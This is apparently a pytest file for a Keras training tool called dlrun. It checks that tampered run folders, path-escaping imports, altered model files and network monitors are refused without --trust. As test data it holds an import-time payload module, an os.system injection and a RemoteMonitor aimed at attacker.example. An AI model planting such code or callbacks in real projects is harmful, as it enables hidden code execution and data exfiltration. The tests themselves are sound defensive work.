"""Consent comes from the command line, not from a file; run folders record and verify what they hold."""

from __future__ import annotations

import json
import re
import shutil
import sys
from pathlib import Path

import numpy as np
import pytest
import yaml

from dlrun import api
from dlrun.cli import main
from dlrun.errors import EXIT_USER, RecipeError
from dlrun.importer import Importer
from dlrun.trust import INTEGRITY, outside_reason
from tests.conftest import write_recipe

PLAIN = """
name: plain
data:
  source: npz
  path: data.npz
  inputs: {x: {from: x}}
  targets: {y: {from: y}}
model:
  inputs: {x: {shape: [4]}}
  layers:
    - {name: y, type: Dense, units: 1}
compile: {optimizer: adam, loss: mse}
train: {epochs: 1, batch_size: 16}
"""

EVIL = """
import pathlib
pathlib.Path(__file__).with_name("PWNED").write_text("ran")

def fn(y_true, y_pred):
    return y_pred
"""


def _data(folder):
    x = np.random.default_rng(0).normal(size=(32, 4)).astype("float32")
    np.savez(folder / "data.npz", x_train=x, y_train=x[:, :1], x_test=x[:8], y_test=x[:8, :1])


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    """One finished run (trained once for the module); tests copy it before changing it."""
    folder = tmp_path_factory.mktemp("trained")
    _data(folder)
    result = api.train(api.load_recipe(write_recipe(folder, PLAIN)), runs_root=folder / "runs", quiet=True)
    return result.run.path


@pytest.fixture
def run(trained, tmp_path):
    copy = tmp_path / "run"
    shutil.copytree(trained, copy)
    return copy


def _errors(capsys):
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return [line for line in err.splitlines() if line.startswith("error:")], err


def test_training_records_the_model_hash(run):
    from dlrun.trust import sha256

    record = json.loads((run / INTEGRITY).read_text())["sha256"]
    assert record == {"model.keras": sha256(run / "model.keras")}


def test_a_run_folder_cannot_grant_itself_imports(run, capsys, monkeypatch):
    """The reproducer: evil.py copied into the run, its recipe.yaml edited to import it."""
    monkeypatch.setenv("NO_COLOR", "1")
    (run / "evil.py").write_text(EVIL)
    doc = yaml.safe_load((run / "recipe.yaml").read_text())
    doc["imports"] = ["evil.py"]
    doc["compile"]["metrics"] = ["evil.py:fn"]
    (run / "recipe.yaml").write_text(yaml.safe_dump(doc))
    for verb in (["eval", str(run)], ["export", str(run), "--format", "keras"]):
        assert main(verb) == EXIT_USER
        errors, err = _errors(capsys)
        assert len(errors) == 1 and errors[0] == err.strip().splitlines()[-1]
        assert "'evil.py:fn' would import and run 'evil.py'; refused — pass --trust" in errors[0]
    assert not (run / "PWNED").exists()
    assert "dlrun_custom_evil" not in sys.modules


def test_a_changed_model_file_is_refused(run, capsys):
    with (run / "model.keras").open("ab") as fh:
        fh.write(b"\0")
    assert main(["eval", str(run)]) == EXIT_USER
    errors, _ = _errors(capsys)
    assert errors == [f"error: {run / 'model.keras'} changed since training (its sha256 differs from {INTEGRITY}); "
                      "refused — restore it, or train the run again"]  # fmt: skip


def test_a_changed_imported_file_is_refused(tmp_path):
    from dlrun.trust import record_run, verify_run

    (tmp_path / "model.keras").write_bytes(b"model")
    (tmp_path / "layers.py").write_text("x = 1\n")
    record_run(tmp_path, ["layers.py", "numpy"])
    verify_run(tmp_path)  # unchanged: passes
    (tmp_path / "layers.py").write_text("import os; os.system('echo pwned')\n")
    with pytest.raises(RecipeError, match=r"layers.py changed since training"):
        verify_run(tmp_path)


def test_resume_of_a_run_folder_imports_nothing_without_trust(tmp_path):
    importer = Importer(["evil.py"], tmp_path, origin=tmp_path)
    (tmp_path / "evil.py").write_text(EVIL)
    with pytest.raises(RecipeError, match=r"would import and run 'evil.py'; refused — pass --trust"):
        importer.load("evil.py:fn")
    assert not (tmp_path / "PWNED").exists()


def test_imports_may_not_leave_the_recipe_folder(tmp_path, capsys):
    (tmp_path / "evil.py").write_text(EVIL)
    folder = tmp_path / "recipes"
    folder.mkdir()
    text = PLAIN.replace("name: plain\n", "name: plain\nimports: [../evil.py]\n").replace(
        "compile: {optimizer: adam, loss: mse}", "compile: {optimizer: adam, loss: mse, metrics: ['../evil.py:fn']}"
    )
    recipe = write_recipe(folder, text)
    assert main(["check", str(recipe)]) == EXIT_USER
    errors, _ = _errors(capsys)
    assert errors == [f"error: {recipe}:3:11: imports[0]: '../evil.py' is outside the recipe's folder {folder}; "
                      "importing it needs --trust"]  # fmt: skip
    assert not (tmp_path / "PWNED").exists()


def test_outside_reason(tmp_path, monkeypatch):
    inside = tmp_path / "recipe"
    inside.mkdir()
    (inside / "mine.py").write_text("")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "stray_module_x.py").write_text("raise SystemExit('must not run')\n")
    monkeypatch.syspath_prepend(str(elsewhere))
    assert outside_reason("mine.py", inside) is None
    assert outside_reason("mine", inside) is None  # found in the recipe's folder
    assert outside_reason("numpy", inside) is None  # installed
    assert outside_reason("json", inside) is None  # standard library
    assert "absolute path" in outside_reason(str(inside / "mine.py"), inside)
    assert "outside the recipe's folder" in outside_reason("sub/../../x.py", inside)
    assert "not an installed package" in outside_reason("stray_module_x", inside)
    (inside / "link.py").symlink_to(elsewhere / "stray_module_x.py")
    assert "outside the recipe's folder" in outside_reason("link.py", inside)


def test_the_command_says_what_it_imports(tmp_path, capsys):
    (tmp_path / "mine_here.py").write_text("def fn(y_true, y_pred):\n    return y_pred\n")
    Importer(["mine_here.py"], tmp_path).load("mine_here.py:fn")
    assert f"importing custom code: {tmp_path / 'mine_here.py'}" in capsys.readouterr().err


def test_remote_monitor_needs_trust(tmp_path):
    from dlrun.engine.callbacks import make_callbacks
    from dlrun.engine.rundir import RunDir
    from dlrun.recipe.schema import Component

    monitor = [Component(type="RemoteMonitor", root="http://attacker.example:9000")]
    with pytest.raises(
        RecipeError, match=r"RemoteMonitor sends training data over the network; refused — pass --trust"
    ):
        make_callbacks(monitor, RunDir(tmp_path), Importer([], tmp_path), ("train", "callbacks"))
    made = make_callbacks(monitor, RunDir(tmp_path), Importer([], tmp_path, trust=True), ("train", "callbacks"))
    assert type(made[0]).__name__ == "RemoteMonitor"


@pytest.mark.parametrize(
    ("callback", "value"),
    [("ModelCheckpoint", "best.keras"), ("ModelCheckpoint", "ckpt/{epoch:03d}-{val_loss:.2f}.weights.h5"),
     ("CSVLogger", "logs/history.csv"), ("TensorBoard", "tb"), ("BackupAndRestore", "backup")],
)  # fmt: skip
def test_relative_write_paths_inside_the_run_folder_are_fine(callback, value):
    from dlrun.trust import WRITTEN_PATHS, write_path_problem

    assert write_path_problem(callback, {WRITTEN_PATHS[callback]: value}) is None


# ----------------------------------------------------------------------------------------------------
# every failure the recipe or the data causes: exit 2, one located line, and the run listed as failed

BAD_TRAINING = {
    "lambda_print": (
        "train: {epochs: 1, batch_size: 16, callbacks: [{type: LambdaCallback, on_epoch_end: print}]}",
        "train.callbacks[0].on_epoch_end: LambdaCallback.on_epoch_end takes a Python function: give "
        "`module:function` (with the module under `imports:`), not 'print'",
    ),
    "scheduler_os_system": (
        "train: {epochs: 1, batch_size: 16, callbacks: [{type: LearningRateScheduler, schedule: os.system}]}",
        "train.callbacks[0].schedule: LearningRateScheduler.schedule takes a Python function: give "
        "`module:function` (with the module under `imports:`), not 'os.system'",
    ),
    "metric_wrapper_fn": (
        "compile: {optimizer: adam, loss: mse, metrics: [{type: MeanMetricWrapper, fn: x}]}\n"
        "train: {epochs: 1, batch_size: 16}",
        "compile.metrics.fn: MeanMetricWrapper.fn takes a Python function: give `module:function` (with "
        "the module under `imports:`) or a Keras metric name, not 'x'",
    ),
    "seed_too_big": ("seed: 1180591620717411303424", "seed: must be at most 4294967295"),
    "seed_negative": ("seed: -5", "seed: must be at least 0, got -5"),
    "string_lookup_on_numbers": (
        "train: {epochs: 1, batch_size: 16}",
        ": TensorFlow could not run the model on this data (in layer 'string_lookup'): Cast float to string is "
        "not supported",
    ),
}


@pytest.mark.parametrize("case", sorted(BAD_TRAINING))
def test_training_mistakes_exit_2_with_one_line_and_fail_the_run(case, tmp_path, capsys):
    text, tail = BAD_TRAINING[case]
    body = PLAIN.replace("train: {epochs: 1, batch_size: 16}\n", "")
    if "compile:" in text:
        body = body.replace("compile: {optimizer: adam, loss: mse}\n", "")
    if case == "string_lookup_on_numbers":
        body = body.replace("    - {name: y,", "    - {type: StringLookup}\n    - {name: y,")
    _data(tmp_path)
    recipe = write_recipe(tmp_path, body + text + "\n")
    assert main(["train", str(recipe), "--runs", str(tmp_path / "runs"), "-q"]) == EXIT_USER
    errors, err = _errors(capsys)
    assert len(errors) == 1 and errors[0] == err.strip().splitlines()[-1]
    if case != "string_lookup_on_numbers":
        assert re.fullmatch(rf"error: {re.escape(str(recipe))}:\d+:\d+: {re.escape(tail)}.*", errors[0]), errors[0]
    else:
        assert re.fullmatch(re.escape(f"error{tail}").replace("string_lookup", r"string_lookup(_\d+)?"), errors[0])
        from dlrun.verbs.runs import list_runs

        (row,) = list_runs(tmp_path / "runs")
        assert row["status"] == "failed" and "Cast float to string is not supported" in row["reason"]


def test_a_run_failing_before_its_first_epoch_is_listed_failed_with_the_reason(tmp_path, capsys):
    from dlrun.verbs.runs import list_runs

    _data(tmp_path)
    text = PLAIN.replace("train: {epochs: 1, batch_size: 16}", BAD_TRAINING["lambda_print"][0])
    assert main(["train", str(write_recipe(tmp_path, text)), "--runs", str(tmp_path / "runs"), "-q"]) == EXIT_USER
    capsys.readouterr()
    (row,) = list_runs(tmp_path / "runs")
    assert row["status"] == "failed"
    assert row["reason"].startswith("train.callbacks[0].on_epoch_end: LambdaCallback.on_epoch_end takes a Python")


def test_runs_of_a_missing_folder_exits_2(capsys):
    assert main(["runs", "/nonexistent/runs"]) == EXIT_USER
    assert capsys.readouterr().err.strip() == "error: runs folder not found: /nonexistent/runs"


def test_disk_full_while_saving_the_model_is_one_line(tmp_path, capsys, monkeypatch):
    """ENOSPC simulated (no tmpfs can be mounted here): the final save fails, nothing half-written."""
    import errno

    import keras

    def full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    _data(tmp_path)
    monkeypatch.setattr(keras.Model, "save", full)
    assert main(["train", str(write_recipe(tmp_path, PLAIN)), "--runs", str(tmp_path / "runs"), "-q"]) == EXIT_USER
    _, err = _errors(capsys)
    assert err.strip() == "error: disk full: no space left on the device; free some and run again"
    (run,) = (tmp_path / "runs" / "plain").iterdir()
    assert not (run / "model.keras").exists() and not list(run.glob(".model*"))


def test_a_truncated_model_file_says_so(trained, tmp_path):
    from dlrun.engine.artifacts import load_run_model

    data = (trained / "model.keras").read_bytes()
    (tmp_path / "model.keras").write_bytes(data[: len(data) // 2])
    with pytest.raises(RecipeError, match=r"model.keras is not a valid .keras file \(not a zip archive: truncated"):
        load_run_model(tmp_path / "model.keras", {})


def test_a_model_with_a_custom_class_not_imported_names_it(tmp_path, monkeypatch):
    import keras

    from dlrun.engine.artifacts import load_run_model

    @keras.saving.register_keras_serializable(package="trust_tests")
    class Doubler(keras.layers.Layer):
        def call(self, x):
            return x * 2

    inputs = keras.Input((3,))
    keras.Model(inputs, Doubler()(inputs)).save(tmp_path / "model.keras")
    monkeypatch.delitem(keras.saving.get_custom_objects(), "trust_tests>Doubler")
    with pytest.raises(RecipeError, match=r"model.keras uses custom classes 'trust_tests>Doubler' whose code is not "
                                          r"imported; pass --trust"):  # fmt: skip
        load_run_model(tmp_path / "model.keras", {})


def test_a_corrupt_jpeg_in_an_image_archive_is_a_user_error(tmp_path):
    """TensorFlow decodes images inside the input pipeline; what it raises for a bad file becomes one line."""
    import tarfile

    from dlrun.data.prepare import prepare
    from dlrun.errors import framework_error
    from dlrun.recipe.schema import DataSpec
    from tests.test_data_sources import image_folder

    root = image_folder(tmp_path / "shapes", per_class=2)
    (root / "train" / "red" / "broken.jpg").write_bytes(b"\xff\xd8\xff\xe0 not really a jpeg")
    with tarfile.open(tmp_path / "shapes.tar.gz", "w:gz") as tar:
        tar.add(root, arcname="shapes")
    spec = DataSpec.model_validate({"source": "images", "path": "shapes.tar.gz", "image_size": [8, 8],
                                    "inputs": {"image": {"from": "image"}}, "targets": {"c": {"from": "label"}}})  # fmt: skip
    ds = prepare(spec, tmp_path, seed=0).feed("train", ["image"], ["c"], batch_size=64, training=False).pipeline
    with pytest.raises(Exception) as raised:
        list(ds)
    user = framework_error(raised.value)
    assert user is not None, repr(raised.value)
    assert str(user) == "TensorFlow could not read the data: jpeg::Uncompress failed. Invalid JPEG data or crop window."


def test_pyproject_asks_for_the_fixed_keras():
    text = (Path(__file__).resolve().parents[1] / "pyproject.toml").read_text()
    assert '"keras>=3.15.1"' in text and '"tensorflow>=2.21"' in text


def test_an_older_keras_is_refused_naming_the_advisories(tmp_path, capsys):
    from dlrun.trust import check_keras_version

    with pytest.raises(RecipeError, match=r"Keras 3.3.3 is older than 3.15.1 .*CVE-2025-1550.*CVE-2026-12481\); "
                                          r"upgrade: pip install 'keras>=3.15.1'; refused to load"):  # fmt: skip
        check_keras_version("3.3.3", unsafe=False)
    check_keras_version("3.3.3", unsafe=True)
    assert capsys.readouterr().err.startswith("warning: Keras 3.3.3 is older than 3.15.1")
    check_keras_version("3.15.1", unsafe=False)
    check_keras_version("3.16.0.dev2026", unsafe=False)


@pytest.mark.slow
def test_disk_full_on_a_real_small_tmpfs(tmp_path, capsys):
    """A 20 MB tmpfs and a model whose checkpoints are 12 MB: one line, exit 2, the first checkpoint intact."""
    import subprocess

    mount = tmp_path / "small"
    mount.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=20m", "tmpfs", str(mount)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here (needs root)")
    try:
        _data(tmp_path)
        text = PLAIN.replace("    - {name: y,", "    - {type: Dense, units: 1000}\n    - {type: Dense, units: 1000}\n"
                             "    - {name: y,").replace(
            "train: {epochs: 1, batch_size: 16}",
            'train: {epochs: 6, batch_size: 16, callbacks: [{type: ModelCheckpoint, filepath: "e{epoch:03d}.keras"}]}',
        )  # fmt: skip
        recipe = write_recipe(tmp_path, text)
        assert main(["train", str(recipe), "--runs", str(mount / "runs"), "-q"]) == EXIT_USER
        _, err = _errors(capsys)
        assert err.strip().splitlines()[-1].startswith("error: ")
        assert "disk full" in err and len([line for line in err.splitlines() if line.strip()]) == 1
        (run,) = (mount / "runs" / "plain").iterdir()
        first = run / "checkpoints" / "e001.keras"
        import keras

        assert keras.saving.load_model(first).count_params() > 1_000_000  # the previous checkpoint loads
    finally:
        subprocess.run(["umount", str(mount)], capture_output=True)
